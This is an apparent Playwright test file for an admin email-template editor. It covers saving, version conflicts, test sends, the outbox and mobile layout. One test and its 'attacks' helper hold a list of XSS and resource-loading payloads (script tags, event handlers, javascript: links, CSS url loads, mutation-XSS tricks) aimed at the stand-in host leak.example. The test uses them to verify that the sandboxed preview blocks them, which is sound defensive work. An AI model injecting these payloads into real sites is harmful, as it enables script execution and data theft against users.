import type { Page } from '@playwright/test';
import { expect, expectAccessible, test } from './fixtures.ts';

async function openTestTemplate(admin: Page) {
  const dialog = admin.getByRole('dialog', { name: 'Email Template Management' });
  await dialog.getByRole('button', { name: /^Test email/ }).click();
  return { dialog, paper: dialog.frameLocator('iframe[title="Email preview"]') };
}

test('administrators edit an email template, send a test and find it in the outbox, on a phone too', async ({
  person,
}) => {
  const admin = await person('admin', '/admin-tools#system');
  const information = admin.getByRole('region', { name: 'System Information' });
  await information.getByRole('button', { name: 'Email Templates' }).click();
  const { dialog, paper: preview } = await openTestTemplate(admin);
  await expect(preview.getByText('Open Forecourt')).toBeVisible();

  const text = dialog.getByRole('textbox', { name: 'Plain text' });
  await text.fill('Good day, ');
  await dialog.getByRole('button', { name: 'firstName' }).click();
  await expect(text).toHaveValue('Good day, {{firstName}}');
  await expect(text).toBeFocused();
  await dialog.getByRole('tab', { name: 'Plain text' }).click();
  await expect(dialog.getByText('Good day, Dana', { exact: true })).toBeVisible();
  // Without the preview: axe cannot run in its sandboxed frame.
  await expectAccessible(admin);
  await dialog.getByRole('button', { name: 'Save template' }).click();
  await expect(admin.getByText('Template saved', { exact: true })).toBeVisible();

  // Someone else saves meanwhile; their version must not be overwritten unseen.
  const theirs = {
    subject: 'Theirs',
    htmlTemplate: 'x',
    textTemplate: 'Good day, {{firstName}}',
    active: true,
  };
  expect((await admin.request.put('/api/email-templates/test', { data: theirs })).ok()).toBe(true);
  await dialog.getByRole('textbox', { name: 'Subject' }).fill('Mine');
  await dialog.getByRole('button', { name: 'Save template' }).click();
  await expect(dialog.getByText(/changed this template/)).toBeVisible();
  await dialog.getByRole('button', { name: 'Load latest version' }).click();
  await dialog.getByRole('button', { name: 'Save template' }).click();
  await dialog.getByRole('tab', { name: 'Versions' }).click();
  await expect(dialog.getByRole('listitem').filter({ hasText: 'Mine' })).toContainText('Current');
  await expect(dialog.getByRole('listitem').filter({ hasText: 'Theirs' })).toBeVisible();

  const later = { ...theirs, subject: 'Theirs again' };
  expect((await admin.request.put('/api/email-templates/test', { data: later })).ok()).toBe(true);
  await dialog.getByRole('textbox', { name: 'Subject' }).fill('Mine again');
  await dialog.getByRole('button', { name: 'Save template' }).click();
  await dialog.getByRole('button', { name: 'Use theirs' }).click();
  await expect(dialog.getByRole('textbox', { name: 'Subject' })).toHaveValue('Theirs again');
  await expect(dialog.getByRole('button', { name: 'Save template' })).toBeDisabled();

  // What is typed while a version is saved belongs to the next one.
  const { promise: gate, resolve: release } = Promise.withResolvers<void>();
  await admin.route('**/api/email-templates/test', async (route) => {
    await gate;
    await route.continue();
  });
  await dialog.getByRole('textbox', { name: 'Subject' }).fill('First words');
  await dialog.getByRole('button', { name: 'Save template' }).click();
  await dialog.getByRole('textbox', { name: 'Subject' }).fill('First words, and more');
  release();
  await expect(dialog.getByRole('listitem').filter({ hasText: 'First words' })).toContainText(
    'Current',
  );
  await expect(dialog.getByRole('textbox', { name: 'Subject' })).toHaveValue(
    'First words, and more',
  );
  await dialog.getByRole('button', { name: 'Save template' }).click();
  await expect(dialog.getByRole('listitem').filter({ hasText: 'and more' })).toContainText(
    'Current',
  );

  await dialog.getByRole('button', { name: 'Send test' }).click();
  const sendDialog = admin.getByRole('dialog', { name: 'Send Test Email' });
  await sendDialog.getByRole('textbox', { name: 'Email' }).fill('nobody');
  await sendDialog.getByRole('button', { name: 'Send Test Email' }).click();
  await expect(
    admin.getByText('Please enter a valid email address', { exact: true }),
  ).toBeVisible();
  await sendDialog.getByRole('textbox', { name: 'Email' }).fill('story@example.com');
  await sendDialog.getByRole('button', { name: 'Send Test Email' }).click();
  await expect(sendDialog.getByText(/Saved as outbox\/[\w-]+\.eml/)).toBeVisible();
  await sendDialog.getByRole('button', { name: 'Close' }).first().click();

  await dialog.getByRole('button', { name: 'Restore' }).last().click();
  await expect(admin.getByText('Version restored', { exact: true })).toBeVisible();
  await expect(text).toHaveValue(/email delivery works/);
  await dialog.getByRole('button', { name: 'Close' }).first().click();

  const card = admin.getByRole('region', { name: 'Email', exact: true });
  await card.getByRole('button', { name: 'Open outbox' }).click();
  const outbox = admin.getByRole('dialog', { name: 'Email outbox' });
  await outbox.getByRole('button', { name: /story@example\.com/ }).click();
  await expect(outbox.getByText(/^Sent on/)).toBeVisible();
  await outbox.getByRole('tab', { name: 'Plain text' }).click();
  await expect(outbox.getByText(/^Good day, \w+/)).toBeVisible();
  await expectAccessible(admin);
  await admin.keyboard.press('Escape');
  await expect(outbox).toBeHidden();

  // On a phone an email replaces the list, and going back returns focus to its row.
  await admin.setViewportSize({ width: 390, height: 844 });
  await card.getByRole('button', { name: 'Open outbox' }).click();
  const row = outbox.getByRole('button', { name: /story@example\.com/ });
  await row.click();
  await expect(row).toBeHidden();
  const back = outbox.getByRole('button', { name: 'All emails' });
  await expect(back).toBeFocused();
  // Again without the preview.
  await outbox.getByRole('tab', { name: 'Plain text' }).click();
  await expectAccessible(admin);
  await back.press('Enter');
  await expect(row).toBeFocused();
});

test('nothing in a previewed email runs, loads or navigates', async ({ person }) => {
  const admin = await person('admin', '/admin-tools#users');
  await admin.getByRole('button', { name: 'More', exact: true }).click();
  await admin.getByRole('menuitem', { name: 'Email templates' }).click();
  const { dialog, paper: preview } = await openTestTemplate(admin);
  let dialogs = 0;
  const leaks: string[] = [];
  admin.on('dialog', (nativeDialog) => {
    dialogs++;
    void nativeDialog.dismiss();
  });
  admin.on('request', (request) => {
    if (/leak/.test(request.url())) leaks.push(request.url());
  });

  // The server refuses such HTML, but the preview must be safe without that.
  await admin.route(/\/preview$/, (route) => {
    const { subject, htmlTemplate, textTemplate } = route.request().postDataJSON();
    if (!htmlTemplate.includes('First mark')) return route.continue();
    return route.fulfill({ json: { subject, html: htmlTemplate, text: textTemplate } });
  });
  const html = dialog.getByRole('textbox', { name: 'HTML' });
  await html.fill(`${attacks('https://leak.example') + attacks('/leak')}<p>First mark</p>`);
  await expect(preview.getByText('First mark')).toBeVisible();
  // Clicking a link must not navigate.
  await preview.getByText('a click').first().click();
  await preview.getByText('a click').last().click();
  await expect(preview.getByText('in red').first()).toHaveCSS('color', 'rgb(255, 0, 0)');
  await html.fill('<p>Second mark</p>');
  await expect(preview.getByText('Second mark')).toBeVisible();

  await html.fill('{{constructor}}');
  await expect(dialog.getByText('HTML: Line 1: {{constructor}} is not a variable')).toBeVisible();
  await expect(preview.getByText('Second mark')).toBeVisible();
  expect([dialogs, leaks]).toEqual([0, []]);
  await expect(admin).toHaveURL(/admin-tools#users$/);
  await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', '');
  expect(await admin.evaluate(() => 'leaked' in window)).toBe(false);
  // Proves that requests are recorded: the page itself may make one.
  await admin.evaluate(() => fetch('/leak').catch(() => {}));
  await expect.poll(() => leaks.length).toBe(1);
  await dialog.getByRole('button', { name: 'Close' }).first().click();
  await admin.getByRole('button', { name: 'Discard' }).click();
  await expect(dialog).toBeHidden();
});

/** Ways to run code or to make the browser send a request. */
const attacks = (to: string) => `
<script>parent.leaked = 1; alert(1); fetch('${to}/1')</script>
<script src="${to}/2"></script><link rel="stylesheet" href="${to}/3"><base href="${to}/">
<meta http-equiv="refresh" content="0;url=${to}/4">
<style>@import "${to}/5"; body { background: url(${to}/6) } @font-face { font-family: x; src: url(${to}/7) } p { font-family: x }</style>
<img src="${to}/8" onerror="alert(1)" alt="A car"><img srcset="${to}/9 1x">
<p style="background-image: url('${to}/10'); color: rgb(255, 0, 0)" onclick="alert(1)">in red</p>
<svg onload="alert(1)"><image href="${to}/11"/><script>alert(1)</script></svg>
<iframe src="${to}/12"></iframe><object data="${to}/13"></object><embed src="${to}/14">
<video src="${to}/15" poster="${to}/16" autoplay></video><audio src="${to}/17" autoplay></audio>
<form action="${to}/18"><button autofocus onfocus="alert(1)">Send</button><input type="image" src="${to}/19"></form>
<a href="${to}/20" ping="${to}/21" target="_top">a click</a><a href="javascript:alert(1)">a click</a>
<table background="${to}/22"><tr><td background="${to}/23">x</td></tr></table>
<math><mtext><style><img src="${to}/24" onerror="alert(1)"></style></mtext></math>
<noscript><p title="</noscript><img src=${to}/25 onerror=alert(1)>"></noscript>
<div style="color: red; background: u\\72l(${to}/26); list-style: image-set('${to}/27' 1x)">x</div>
<style></style><img src="${to}/28"></style><input autofocus onfocus="alert(1)"><details open ontoggle="alert(1)">x</details>
`;

test('the preview names the placeholder that an email template lacks', async ({ person }) => {
  const admin = await person('admin', '/admin-tools#system');
  const information = admin.getByRole('region', { name: 'System Information' });
  await information.getByRole('button', { name: 'Email Templates' }).click();
  const dialog = admin.getByRole('dialog', { name: 'Email Template Management' });
  await dialog.getByRole('button', { name: /^Password reset/ }).click();
  const html = dialog.getByRole('textbox', { name: 'HTML' });
  await expect(dialog.locator('iframe[title="Email preview"]')).toBeVisible();
  const original = await html.inputValue();
  await html.fill('<p>Hello {{firstName}}</p>');
  const sentence = dialog.getByText('HTML: {{resetLink}} is required in this email.');
  await expect(sentence).toBeVisible();
  await expect(dialog.getByText('Showing the last valid version.')).toBeVisible();
  await html.fill(original);
  await expect(sentence).toHaveCount(0);
});
